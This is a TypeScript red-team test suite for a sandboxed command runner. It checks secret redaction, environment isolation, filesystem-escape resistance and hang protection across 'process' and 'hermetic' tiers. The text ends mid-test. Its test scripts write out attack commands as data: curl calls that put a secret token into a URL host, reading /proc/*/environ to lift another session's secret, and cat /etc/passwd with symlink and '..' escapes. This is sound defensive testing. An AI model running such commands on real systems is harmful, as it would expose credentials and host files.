/**
 * Red-team attacks on the session promises, each run for real on the process and hermetic
 * tiers: secrets never reach the log, the network records or anything returned (in any
 * encoding the redactor claims); no host variable reaches a session; the hermetic filesystem
 * is the workspace; a process-tier session stops its whole tree; a run never lands on a
 * weaker tier than asked; nothing crashes or hangs the runner.
 *
 * Naming: "LIMIT: …" tests pin
 * down what a tier honestly cannot stop (they pass, asserting the current behaviour); every
 * other test is an attack that held.
 */
import { execFileSync } from "node:child_process"
import { existsSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { readFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { domainToASCII } from "node:url"
import { describe, expect, it } from "@effect/vitest"
import { Effect, Exit, Fiber, Layer } from "effect"
import { getCommandNames, getJavaScriptCommandNames, getPythonCommandNames } from "just-bash"
import { piRefusal } from "../../src/backends/Agents.js"
import type { PreparedExecution } from "../../src/backends/Execution.js"
import * as Hermetic from "../../src/backends/Hermetic.js"
import { truncationMarker } from "../../src/backends/LogCapture.js"
import type { Attestation } from "../../src/backends/Matrix.js"
import * as Process from "../../src/backends/Process.js"
import * as Select from "../../src/backends/Select.js"
import { runSession } from "../../src/backends/Session.js"
import type { ReleasedSecret, SessionBackend, SessionResult } from "../../src/backends/SessionBackend.js"
import * as EgressProxy from "../../src/egress/EgressProxy.js"
import * as Resolver from "../../src/egress/Resolver.js"
import type { Dimension, IsolationTier } from "../../src/protocol/Ids.js"
import { httpUpstream } from "../egress/support/ProxyHarness.js"
import { dead, execution, killLater, literal, released, secretRef, sh, tempDir } from "./support/Sessions.js"

// ---------------------------------------------------------------------------------------------
// Support
// ---------------------------------------------------------------------------------------------

/** Both tiers over a resolver that knows no name; built once, outside any test's scope. */
const processTier: SessionBackend = Effect.runSync(
  Process.make.pipe(Effect.provide(EgressProxy.layer.pipe(Layer.provide(Resolver.layerStatic({})))))
)
const hermeticTier: SessionBackend = Effect.runSync(Hermetic.makeWithResolver.pipe(Effect.provide(Resolver.layerStatic({}))))
const tiers = { process: processTier, hermetic: hermeticTier } as const

/** `TOKEN` is the released secret `TOK` with the given value. */
const withToken = (value: string, overrides: Partial<PreparedExecution> = {}) => ({
  overrides: { ...overrides, env: { TOKEN: secretRef("TOK"), ...overrides.env } },
  secrets: [released("TOK", value)]
})

const runIn = (
  tier: SessionBackend,
  workspace: string,
  script: string,
  overrides: Partial<PreparedExecution> = {},
  secrets: ReadonlyArray<ReleasedSecret> = []
) => Effect.scoped(tier.run({ execution: execution(sh(script), overrides), workspace, secrets }))

const run = (
  tier: SessionBackend,
  script: string,
  overrides: Partial<PreparedExecution> = {},
  secrets: ReadonlyArray<ReleasedSecret> = []
) => Effect.flatMap(tempDir("redteam"), (workspace) => runIn(tier, workspace, script, overrides, secrets))

/** A governed session through `runSession`, on a runner offering both tiers. */
const governed = (
  tier: IsolationTier,
  exec: PreparedExecution,
  workspace: string,
  secrets: ReadonlyArray<ReleasedSecret> = [],
  enforce: ReadonlyArray<Dimension> = [],
  onAttested?: (a: Attestation) => Effect.Effect<void>
) =>
  runSession(
    { tier, execution: exec, workspace, secrets, required: ["read", "write", "network", "env"], enforce },
    onAttested
  ).pipe(Effect.provide(Select.layer([Effect.succeed(processTier), Effect.succeed(hermeticTier)])))

const guard = <A, E, R>(effect: Effect.Effect<A, E, R>, what: string, seconds = 5) =>
  Effect.timeoutFail(effect, {
    duration: `${seconds} seconds`,
    onTimeout: () => new Error(`${what} did not happen within ${seconds} s`)
  })

const pidsOf = (text: string) => text.trim().split(/\s+/).filter((w) => w.length > 0).map(Number)

/** Everything a caller gets back, as one string to search for a leaked value. */
const everything = (result: SessionResult) => JSON.stringify(result)

// ---------------------------------------------------------------------------------------------
// Secrets in the log
// ---------------------------------------------------------------------------------------------

describe("secrets in the log", () => {
  const value = "Sup3r-s3cret-VALUE-42"

  it.scopedLive("process: a secret printed in two writes, apart in time, is redacted whole", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(processTier, `printf %s "\${TOKEN%????????????}"; sleep 0.05; printf '%s\\n' "\${TOKEN#?????????}"`, overrides, secrets)
      expect(result).toEqual({ exitCode: 0, log: "[REDACTED:TOK]\n", truncated: false, timedOut: false, redactions: { TOK: 1 }, network: [] })
    }))

  it.scopedLive("process: a secret split between stdout and stderr, back to back, is redacted whole", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(processTier, `printf %s "\${TOKEN%????????????}"; sleep 0.05; printf '%s\\n' "\${TOKEN#?????????}" >&2`, overrides, secrets)
      expect(result.log).toBe("[REDACTED:TOK]\n")
    }))

  it.scopedLive("hermetic: a secret printed in two writes is redacted whole", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(hermeticTier, `printf %s "\${TOKEN:0:9}"; printf '%s\\n' "\${TOKEN:9}"`, overrides, secrets)
      expect(result).toEqual({ exitCode: 0, log: "[REDACTED:TOK]\n", truncated: false, timedOut: false, redactions: { TOK: 1 }, network: [] })
    }))

  it.scopedLive("LIMIT: a secret the program splits with a newline leaves in two halves (no redactor can rejoin it)", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(processTier, `printf '%s\\n%s\\n' "\${TOKEN%????????????}" "\${TOKEN#?????????}"`, overrides, secrets)
      expect(result.log).toBe("Sup3r-s3c\nret-VALUE-42\n")
      expect(result.redactions).toEqual({})
    }))

  it.scopedLive("LIMIT: a reversed secret leaves (hermetic rev); any transformation the redactor does not know is out of reach", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(hermeticTier, `printf '%s\\n' "$TOKEN" | rev`, overrides, secrets)
      expect(result.log).toBe("24-EULAV-terc3s-r3puS\n")
    }))

  it.scopedLive("LIMIT: an octal dump of the secret leaves (process od -to1)", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken("abcd-efgh")
      const result = yield* run(processTier, `printf %s "$TOKEN" | od -An -to1 | tr -s ' ' | tr -d '\\n'`, overrides, secrets)
      expect(result.log).toBe(" 141 142 143 144 055 145 146 147 150")
    }))

  it.scopedLive("a secret written to a workspace file stays out of the log (the workspace diff is a later issue's)", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const { overrides, secrets } = withToken(value)
      const result = yield* runIn(hermeticTier, workspace, `printf %s "$TOKEN" > leak.txt; echo done`, overrides, secrets)
      expect(result).toEqual({ exitCode: 0, log: "done\n", truncated: false, timedOut: false, redactions: {}, network: [] })
      // Out of scope here: the file holds the raw value; whatever ships the diff must redact it.
      expect(readFileSync(join(workspace, "leak.txt"), "utf8")).toBe(value)
    }))

  it.scopedLive("a secret full of regex metacharacters is redacted literally", () =>
    Effect.gen(function*() {
      const meta = "a.b*c+?(x)[y]{2}|^$\\d"
      const { overrides, secrets } = withToken(meta)
      const result = yield* run(processTier, `printf '%s\\n' "$TOKEN"; printf '%s\\n' "aXb*c+?(x)[y]{2}|^$\\d"`, overrides, secrets)
      expect(result.log).toBe("[REDACTED:TOK]\naXb*c+?(x)[y]{2}|^$\\d\n")
      expect(result.redactions).toEqual({ TOK: 1 })
    }))

  it.scopedLive("a non-ASCII secret is redacted plain, in base64 and in hex", () =>
    Effect.gen(function*() {
      const unicode = "пароль-ключ-🔑-секрет"
      const { overrides, secrets } = withToken(unicode)
      const result = yield* run(
        processTier,
        `printf '%s\\n' "$TOKEN"; printf %s "$TOKEN" | base64 -w0; echo; printf %s "$TOKEN" | od -An -tx1 | tr -d ' \\n'; echo`,
        overrides,
        secrets
      )
      expect(result.log).toBe("[REDACTED:TOK]\n[REDACTED:TOK]\n[REDACTED:TOK]\n")
      expect(result.redactions).toEqual({ TOK: 3 })
    }))

  it.scopedLive("a 50 000-character secret is redacted, plain and base64, on both tiers", () =>
    Effect.gen(function*() {
      const long = Array.from({ length: 50_000 }, (_, i) => "abcdefghijklmnopqrstuvwxyz0123456789"[(i * 7) % 36]).join("")
      for (const tier of [processTier, hermeticTier]) {
        const { overrides, secrets } = withToken(long, { logMaxBytes: 1_000_000 })
        const result = yield* run(tier, `printf '%s\\n' "$TOKEN"; printf %s "$TOKEN" | base64 | tr -d '\\n'; echo`, overrides, secrets)
        expect(result.log).toBe("[REDACTED:TOK]\n[REDACTED:TOK]\n")
      }
    }))

  it.scopedLive("two secrets, one inside the other, are each redacted under their own name", () =>
    Effect.gen(function*() {
      const result = yield* run(
        hermeticTier,
        `echo "$INNER $OUTER $INNER$OUTER"`,
        { env: { INNER: secretRef("INNER"), OUTER: secretRef("OUTER") } },
        [released("INNER", "abcd1234"), released("OUTER", "xx-abcd1234-yy")]
      )
      expect(result.log).toBe("[REDACTED:INNER] [REDACTED:OUTER] [REDACTED:INNER][REDACTED:OUTER]\n")
      expect(result.redactions).toEqual({ INNER: 2, OUTER: 2 })
    }))

  it.scopedLive("env, printenv, set and export -p in the hermetic tier print the secret redacted", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(hermeticTier, `env | grep TOKEN; printenv TOKEN; set | grep '^TOKEN'; export -p | grep TOKEN`, overrides, secrets)
      expect(result.log).toBe(
        "TOKEN=[REDACTED:TOK]\n[REDACTED:TOK]\nTOKEN=[REDACTED:TOK]\ndeclare -x TOKEN=\"[REDACTED:TOK]\"\n"
      )
    }))

  it.scopedLive("base64 of a secret behind a prefix (HTTP Basic 'user:TOKEN', as curl -v prints it) is redacted", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value)
      const result = yield* run(processTier, `printf 'Authorization: Basic %s\\n' "$(printf 'user:%s' "$TOKEN" | base64 -w0)"`, overrides, secrets)
      const leaked = Buffer.from(`user:${value}`).toString("base64")
      // Today: "Authorization: Basic dXNlcjpTdXAzci1zM2NyZXQtVkFMVUUtNDI=" — base64 -d gives the value back.
      expect(result.log).not.toContain(leaked.slice(8, 28))
      expect(result.redactions).toEqual({ TOK: 1 })
    }))
})

// ---------------------------------------------------------------------------------------------
// The log cap
// ---------------------------------------------------------------------------------------------

describe("a log cap landing mid-secret", () => {
  const value = "s3cr3t-Tok/en+=?&xyz"
  const forms: ReadonlyArray<readonly [string, string, string]> = [
    ["plain", `printf 'x%s' "$TOKEN"`, value],
    ["base64", `printf x; printf %s "$TOKEN" | base64 -w0`, Buffer.from(value).toString("base64")],
    ["hex", `printf x; printf %s "$TOKEN" | od -An -tx1 | tr -d ' \\n'`, Buffer.from(value).toString("hex")],
    ["URL-encoded", `printf 'x%s' "$FORM"`, encodeURIComponent(value)]
  ]
  for (const [name, script, form] of forms) {
    it.scopedLive(`process, ${name}: the cut tail of the secret is redacted`, () =>
      Effect.gen(function*() {
        const { overrides, secrets } = withToken(value, { logMaxBytes: 7, env: { FORM: literal(form) } })
        const result = yield* run(processTier, script, overrides, secrets)
        expect(result.log).toBe(`x[REDACTED:TOK]${truncationMarker(7)}`)
        expect(result.truncated).toBe(true)
        expect(result.redactions).toEqual({ TOK: 1 })
      }))
  }

  it.scopedLive("hermetic: output that would pass the cap (a secret in an error message) is dropped whole, never cut mid-secret", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken(value, { logMaxBytes: 100 })
      const result = yield* run(hermeticTier, `printf '%090d' 0; cat "$TOKEN"`, overrides, secrets)
      // Only the interpreter's own "output size limit" message is cut by the capture.
      expect(result.log).toBe(`${"0".repeat(90)}bash: pipe${truncationMarker(100)}`)
      expect(result).toMatchObject({ truncated: true, redactions: {} })
    }))

  it.scopedLive("a cut inside a multi-byte character of a non-ASCII secret still has its start redacted", () =>
    Effect.gen(function*() {
      const unicode = "ключ-секрет-значение"
      // 1 byte "x", 9 bytes "ключ-", then the first of the two bytes of "с".
      const { overrides, secrets } = withToken(unicode, { logMaxBytes: 11 })
      const result = yield* run(processTier, `printf 'x%s' "$TOKEN"`, overrides, secrets)
      expect(result.truncated).toBe(true)
      // Today: "xключ-\uFFFD" + marker — the replacement character hides the prefix from the tail rule.
      expect(result.log).not.toContain("ключ")
      expect(result.redactions).toEqual({ TOK: 1 })
    }))

  it.scopedLive("redaction cannot grow the stored log past the cap plus one placeholder and the marker", () =>
    Effect.gen(function*() {
      const name = `T${"_".repeat(100)}`
      const result = yield* run(
        processTier,
        `i=0; while [ $i -lt 25 ]; do printf %s "$T"; i=$((i+1)); done`,
        { logMaxBytes: 100, env: { T: secretRef(name) } },
        [released(name, "abcd")]
      )
      // 25 placeholders of 113 bytes would be 2,825 bytes; the log is cut again after redaction,
      // never inside a placeholder, and marked.
      const placeholder = `[REDACTED:${name}]`
      expect(result.truncated).toBe(true)
      expect(result.log).toBe(placeholder + truncationMarker(100))
      expect(Buffer.byteLength(result.log)).toBeLessThanOrEqual(100 + placeholder.length + truncationMarker(100).length)
    }))

  it.scopedLive("hermetic printf cut at the cap exits 126 and is reported truncated", () =>
    Effect.gen(function*() {
      const result = yield* run(hermeticTier, `printf '%s' "${"y".repeat(150)}"`, { logMaxBytes: 100 })
      // Today: { exitCode: 126, log: "bash: formatted value size limit exceeded (100 bytes)\n", truncated: false }
      expect(result.exitCode).toBe(126)
      expect(result.truncated).toBe(true)
      expect(result.log.endsWith(truncationMarker(100))).toBe(true)
    }))
})

// ---------------------------------------------------------------------------------------------
// Secrets in network records
// ---------------------------------------------------------------------------------------------

describe("secrets in URLs and network records", () => {
  const denyAll = { egressProxy: true, network: { defaultDeny: true, allowHosts: [] } }
  /** Hermetic gets curl only when some host can be reached; nothing resolves here. */
  const allowAll = { network: { defaultDeny: false, allowHosts: [] } }

  it.scopedLive("process: a lower-case secret in a URL host is redacted from the log and, by runSession, from the records", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const { overrides, secrets } = withToken("lowercase-secret-9", denyAll)
      const outcome = yield* guard(
        governed("process", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets),
        "the curl session"
      )
      expect(outcome.result.log).toBe("warrant egress: [REDACTED:TOK].example is not in the allowlist\n")
      expect(outcome.result.network).toEqual([{
        id: 0,
        kind: "http",
        host: "[REDACTED:TOK].example",
        port: 80,
        decision: "blocked",
        reason: "not-allowlisted",
        detail: "[REDACTED:TOK].example is not in the allowlist"
      }])
      expect(outcome.result.redactions).toEqual({ TOK: 3 })
    }))

  it.scopedLive("hermetic: a lower-case secret in a URL host is redacted from the log and, by runSession, from the records", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const { overrides, secrets } = withToken("lowercase-secret-9", allowAll)
      const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets)
      expect(outcome.result.log).toBe(
        "curl: (7) Network access denied: [REDACTED:TOK].example has no addresses: http://[REDACTED:TOK].example/\n"
      )
      expect(outcome.result.network).toEqual([{
        id: 0,
        kind: "http",
        host: "[REDACTED:TOK].example",
        port: 80,
        decision: "blocked",
        reason: "dns-failed",
        detail: "[REDACTED:TOK].example has no addresses"
      }])
    }))

  it.scopedLive("LIMIT (layering): backend.run alone returns the raw secret in its network records; only runSession redacts them", () =>
    Effect.gen(function*() {
      const { overrides, secrets } = withToken("lowercase-secret-9", allowAll)
      const result = yield* run(hermeticTier, `curl -sS "http://$TOKEN.example/"`, overrides, secrets)
      expect(result.log).not.toContain("lowercase-secret-9")
      expect(result.network.map((d) => d.host)).toEqual(["lowercase-secret-9.example"])
      const viaProcess = yield* guard(run(processTier, `curl -sS "http://$TOKEN.example/"`, { ...overrides, ...denyAll }, secrets), "curl")
      expect(viaProcess.network.map((d) => d.host)).toEqual(["lowercase-secret-9.example"])
    }))

  it.scopedLive("process: a mixed-case secret in a URL host is redacted from the log and the records in its lower-cased form too", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const mixed = "MiXeD-CaSe-Secret-9"
      const { overrides, secrets } = withToken(mixed, denyAll)
      const outcome = yield* guard(
        governed("process", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets),
        "the curl session"
      )
      // Today: log "warrant egress: mixed-case-secret-9.example is not in the allowlist\n", host "mixed-case-secret-9.example".
      expect(everything(outcome.result).toLowerCase()).not.toContain(mixed.toLowerCase())
    }))

  it.scopedLive("hermetic: a mixed-case secret in a URL host is redacted from the log and the records in its lower-cased form too", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const mixed = "MiXeD-CaSe-Secret-9"
      const { overrides, secrets } = withToken(mixed, allowAll)
      const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets)
      // Today: "curl: (7) Network access denied: mixed-case-secret-9.example has no addresses: http://[REDACTED:TOK].example/"
      expect(everything(outcome.result).toLowerCase()).not.toContain(mixed.toLowerCase())
    }))

  it.scopedLive("hermetic: a non-ASCII secret in a URL host is redacted in its punycode form too", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const unicode = "geheimnis-süß-wert"
      const punycode = domainToASCII(unicode)
      expect(punycode).toBe("xn--geheimnis-s-wert-qlb53c")
      const { overrides, secrets } = withToken(unicode, allowAll)
      const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://$TOKEN.example/"`), overrides), workspace, secrets)
      expect(everything(outcome.result)).not.toContain(punycode)
    }))

  it.scopedLive("hermetic: a long secret in an unparseable authority, clipped to 100 characters in the record, is still redacted", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const long = "k".repeat(20) + "0123456789".repeat(10)
      const { overrides, secrets } = withToken(long, allowAll)
      const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://x.example:$TOKEN/"`), overrides), workspace, secrets)
      expect(outcome.result.log).toBe("curl: (7) Network access denied: the URL cannot be parsed: http://x.example:[REDACTED:TOK]/\n")
      // Today: host "x.example:" + the secret's first 90 characters.
      expect(outcome.result.network.map((d) => d.host)).toEqual([expect.not.stringContaining(long.slice(0, 30))])
    }))

  it.scopedLive("hermetic: a secret in an unparseable authority, its punctuation recorded as '?', is still redacted", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const punctuated = "s3cr3t+v4lue!x~y"
      const { overrides, secrets } = withToken(punctuated, allowAll)
      const outcome = yield* governed("hermetic", execution(sh(`curl -sS "http://x.example:$TOKEN/"`), overrides), workspace, secrets)
      // Today: host "x.example:s3cr3t?v4lue?x?y".
      expect(outcome.result.network.map((d) => d.host)).toEqual([expect.not.stringContaining("s3cr3t?v4lue")])
    }))
})

describe("what the process tier only attests", () => {
  it.scopedLive("LIMIT: network — a client that ignores the proxy variables reaches a loopback server directly, unrecorded", () =>
    Effect.gen(function*() {
      const upstream = yield* httpUpstream
      const result = yield* guard(
        run(processTier, `curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '*' http://127.0.0.1:${upstream.port}/direct`, {
          egressProxy: true,
          network: { defaultDeny: true, allowHosts: [] }
        }),
        "the curl session"
      )
      expect(result.log).toBe("200\n")
      expect(upstream.requests.map((r) => r.url)).toEqual(["/direct"])
      expect(result.network).toEqual([])
    }))

  it.scopedLive("LIMIT: read and write — a program opens paths outside the workspace", () =>
    Effect.gen(function*() {
      const root = yield* tempDir("redteam")
      const workspace = join(root, "ws")
      mkdirSync(workspace)
      writeFileSync(join(root, "outside.txt"), "outside\n")
      const result = yield* runIn(processTier, workspace, `cat ../outside.txt; echo written > ../written.txt`)
      expect(result.log).toBe("outside\n")
      expect(readFileSync(join(root, "written.txt"), "utf8")).toBe("written\n")
    }))
})

// ---------------------------------------------------------------------------------------------
// Host environment
// ---------------------------------------------------------------------------------------------

/** The names in a process's initial environment (what /proc shows). */
const environNames = (pid: number) =>
  readFileSync(`/proc/${pid}/environ`, "latin1").split("\0").filter((e) => e.length > 0).map((e) => e.slice(0, e.indexOf("=")))

describe("host environment", () => {
  /** just-bash's own shell variables, besides the prepared ones. */
  const interpreterOwn = "BASHOPTS HOME HOSTNAME HOSTTYPE IFS MACHTYPE OLDPWD OPTIND OSTYPE PATH PWD SHELLOPTS"

  it.scopedLive("hermetic: env and export -p show only the prepared variables and the interpreter's own", () =>
    Effect.gen(function*() {
      const result = yield* run(
        hermeticTier,
        `env | cut -d= -f1 | grep -E '^[A-Za-z_][A-Za-z0-9_]*$' | sort | tr '\\n' ' '; echo; export -p | cut -d' ' -f3 | cut -d= -f1 | tr '\\n' ' '`,
        { env: { GREETING: literal("hi") } }
      )
      expect(result.log).toBe(`${interpreterOwn.replace("BASHOPTS", "BASHOPTS GREETING")} \nGREETING HOME OLDPWD PATH PWD `)
    }))

  it.scopedLive("hermetic: jq env/$ENV, awk ENVIRON and /proc/self/environ hold no host variable", () =>
    Effect.gen(function*() {
      const keys = `keys|map(select(test("^[A-Za-z_]")))|join(" ")`
      const result = yield* run(
        hermeticTier,
        `jq -rn 'env|${keys}'; jq -rn '$ENV|${keys}'; awk 'BEGIN{for(k in ENVIRON) n++; print "awk", n+0}'; cat /proc/self/environ 2>&1; cat /proc/1/environ 2>&1`
      )
      expect(result.log).toBe(
        `${interpreterOwn}\n`.repeat(2) +
          "awk 0\ncat: /proc/self/environ: No such file or directory\ncat: /proc/1/environ: No such file or directory\n"
      )
    }))

  it.scopedLive("LIMIT: process: the runner's environment is readable through /proc/$PPID/environ, so the tier only attests env", () =>
    Effect.gen(function*() {
      expect(processTier.capability.env).toBe("attested")
      const hostOnly = environNames(process.pid).filter((n) => n !== "PATH" && n !== "HOME")
      expect(hostOnly.length).toBeGreaterThan(0)
      const result = yield* run(processTier, `echo "$PPID"; tr '\\0' '\\n' < /proc/$PPID/environ | cut -d= -f1`)
      const [ppid, ...names] = result.log.trim().split("\n")
      expect(Number(ppid)).toBe(process.pid)
      // Every variable the runner was started with is listed: same user, same /proc. A run that
      // demands env enforced is therefore refused on this tier (see "never on a weaker tier").
      expect(names.filter((n) => hostOnly.includes(n)).sort()).toEqual([...hostOnly].sort())
    }))
})

describe("secrets across concurrent process-tier sessions", () => {
  it.scopedLive("LIMIT: process: a session can read a concurrent session's released secret from /proc/*/environ (env is only attested here)", () =>
    Effect.gen(function*() {
      const shared = yield* tempDir("redteam")
      const fifo = join(shared, "b-started")
      execFileSync("mkfifo", [fifo])
      const [wsA, wsB] = [join(shared, "a"), join(shared, "b")]
      mkdirSync(wsA)
      mkdirSync(wsB)
      const victim = yield* Effect.fork(runIn(processTier, wsB, `echo $$ > ${fifo}; exec sleep 100`, { env: { B_TOKEN: secretRef("B") } }, [
        released("B", "session-b-secret-value")
      ]))
      // Session B writes once the reader opens the FIFO: from here on its environment is on /proc.
      yield* guard(Effect.promise(() => readFile(fifo, "utf8")), "session B's start")
      const attacker = yield* runIn(
        processTier,
        wsA,
        `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^B_TOKEN=' | head -1`,
        { env: { A_TOKEN: secretRef("A") } },
        [released("A", "session-a-secret-value")]
      )
      yield* Fiber.interrupt(victim)
      // Session A's redactor knows only A's secrets: B's value arrives unredacted. Isolating
      // sessions from each other takes the namespace tier; this tier only attests env.
      expect(attacker.log).toBe("B_TOKEN=session-b-secret-value\n")
    }))
})

// ---------------------------------------------------------------------------------------------
// Hermetic filesystem escapes
// ---------------------------------------------------------------------------------------------

describe("hermetic filesystem escapes", () => {
  it.scopedLive("ln -s / root; cat root/etc/passwd — symlinks cannot be made", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const result = yield* runIn(hermeticTier, workspace, `ln -s / root; echo "rc=$?"; cat root/etc/passwd 2>&1; ln -s ../.. up; echo "rc=$?"`)
      expect(result.log).toBe(
        "rc=1\ncat: root/etc/passwd: No such file or directory\nrc=1\n" +
          "ln: '/': hard link not allowed for directory\nln: '../..': hard link not allowed for directory\n"
      )
      expect(existsSync(join(workspace, "root"))).toBe(false)
    }))

  it.scopedLive("cd .. repeatedly stays at the workspace root", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      writeFileSync(join(workspace, "marker"), "")
      const result = yield* runIn(hermeticTier, workspace, `cd ..; cd ../../..; cd /..; pwd; ls; cd /../../etc 2>&1; echo "rc=$?"`)
      expect(result.log).toBe("/\nmarker\nbash: cd: /../../etc: No such file or directory\nrc=1\n")
    }))

  it.scopedLive("'..' in a redirect lands inside the workspace, never on the host", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      const name = `warrant-redteam-pwned-${process.pid}`
      const result = yield* runIn(hermeticTier, workspace, `echo x > ../../tmp/${name}; echo "rc=$?"`)
      expect(result.log).toBe("rc=0\n")
      expect(existsSync(join(tmpdir(), name))).toBe(false)
      expect(readFileSync(join(workspace, "tmp", name), "utf8")).toBe("x\n")
    }))

  it.scopedLive("hard links: a host path cannot be linked in; a host-planted hard link is replaced on write, not written through", () =>
    Effect.gen(function*() {
      const root = yield* tempDir("redteam")
      const workspace = join(root, "ws")
      mkdirSync(workspace)
      writeFileSync(join(root, "outside.txt"), "original\n")
      linkSync(join(root, "outside.txt"), join(workspace, "linked.txt"))
      const result = yield* runIn(hermeticTier, workspace, `ln /etc/passwd pw; echo "rc=$?"; cat linked.txt; echo pwned > linked.txt`)
      expect(result.log).toBe("rc=1\noriginal\nln: failed to access '/etc/passwd': No such file or directory\n")
      expect(readFileSync(join(root, "outside.txt"), "utf8")).toBe("original\n")
      expect(readFileSync(join(workspace, "linked.txt"), "utf8")).toBe("pwned\n")
    }))

  it.scopedLive("a relative symlink planted on the host (ws/up -> ..) does not lead to the parent", () =>
    Effect.gen(function*() {
      const root = yield* tempDir("redteam")
      const workspace = join(root, "ws")
      mkdirSync(workspace)
      writeFileSync(join(root, "sibling.txt"), "SIBLING-CONTENT\n")
      symlinkSync("..", join(workspace, "up"))
      const result = yield* runIn(hermeticTier, workspace, `cat up/sibling.txt 2>&1; echo "rc=$?"; ls up 2>&1; echo "rc=$?"; echo x > up/new.txt 2>&1; echo "rc=$?"`)
      expect(result.log).toBe(
        "cat: up/sibling.txt: No such file or directory\nrc=1\nls: up: No such file or directory\nrc=2\n" +
          "EACCES: permission denied, '/up/new.txt' resolves outside sandbox\n"
      )
      expect(existsSync(join(root, "new.txt"))).toBe(false)
    }))

  it.scopedLive("a cwd that is a symlink out of the workspace is refused before anything runs", () =>
    Effect.gen(function*() {
      const workspace = yield* tempDir("redteam")
      symlinkSync(tmpdir(), join(workspace, "escape"))
      const exit = yield* Effect.exit(runIn(hermeticTier, workspace, "echo ran > ran.txt", { cwd: "escape" }))
      expect(exit).toEqual(Exit.fail(expect.objectContaining({
        _tag: "SessionFailed",
        tier: "hermetic",
        reason: "the working directory \"escape\" is not a directory in the workspace"
      })))
      expect(existsSync(join(tmpdir(), "ran.txt"))).toBe(false)
    }))

  it.scopedLive("source /etc/profile, /proc and absolute host paths do not exist", () =>
    Effect.gen(function*() {
      const result = yield* run(hermeticTier, `source /etc/profile 2>&1; echo "rc=$?"; ls /proc /usr /tmp 2>&1; echo "rc=$?"`)
      expect(result.log).toBe(
        "bash: /etc/profile: No such file or directory\nrc=1\n" +
          "ls: /proc: No such file or directory\nls: /usr: No such file or directory\nls: /tmp: No such file or directory\nrc=2\n"
      )
    }))

  it.scopedLive("no JavaScript or Python command exists in the session", () =>
    Effect.gen(function*() {
      const names = [...getJavaScriptCommandNames(), ...getPythonCommandNames(), "node"]
      expect(names).toEqual(expect.arrayContaining(["js-exec", "python3"]))
      const result = yield* run(hermeticTier, names.map((n) => `${n} -c 1 >/dev/null 2>&1; echo "${n} $?"`).join("; "))
      expect(result.log).toBe(names.map((n) => `${n} 127\n`).join(""))
      expect(getCommandNames()).not.toContain("js-exec")
    }))

  it.scopedLive("sqlite3 cannot open or attach host files: both are empty in-memory databases", () =>
    Effect.gen(function*() {
      const root = yield* tempDir("redteam")
      const workspace = join(root, "ws")
      mkdirSync(workspace)
      const attach = `ATTACH DATABASE '../evil.db' AS e`
      const result = yield* runIn(
        hermeticTier,
        workspace,
        [
          `sqlite3 /etc/passwd 'select count(*) from sqlite_master' 2>&1; echo "rc=$?"`,
          `sqlite3 db "${attach}; CREATE TABLE e.t(a); INSERT INTO e.t VALUES(7);" 2>&1; echo "rc=$?"`,
          `sqlite3 db "${attach}; SELECT count(*) FROM e.t;" 2>&1`,
          `ls`
        ].join("; ")
      )
      expect(result.log).toBe("0\nrc=0\nrc=0\nError: no such table: e.t\ndb\n")
      expect(existsSync(join(root, "evil.db"))).toBe(false)
    }))
})

// ---------------------------------------------------------------------------------------------
// The runner: hangs and crashes
// ---------------------------------------------------------------------------------------------

describe("nothing hangs the runner", () => {
  it.scopedLive("hermetic: catastrophic regexes ([[ =~ ]], grep, sed, jq) run in linear time", () =>
    Effect.gen(function*() {
      const a = "a".repeat(40)
      const result = yield* guard(
        run(hermeticTier, [
          `s=${a}; [[ $s =~ ^(a+)+b$ ]]; echo "bash $?"`,
          `echo ${a} | grep -cE '^(a+)+b$'`,
          `echo ${a} | sed -E 's/^(a+)+b$/x/' | wc -c`,
          `jq -n '"${a}" | test("^(a+)+b$")'`
        ].join("; "), { timeoutMs: 2_000 }),
        "the regex session",
        4
      )
      expect(result.log).toBe("bash 1\n0\n41\nfalse\n")
    }))

  it.scopedLive("hermetic: an endless recursive SQL query is stopped by the timeout", () =>
    Effect.gen(function*() {
      const result = yield* guard(
        run(hermeticTier, `sqlite3 :memory: "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*) FROM c"`, { timeoutMs: 300 }),
        "the sqlite session"
      )
      expect(result).toMatchObject({ exitCode: 124, timedOut: true })
    }))

  it.scopedLive("hermetic: a 1 ms timeout stops a busy loop", () =>
    Effect.gen(function*() {
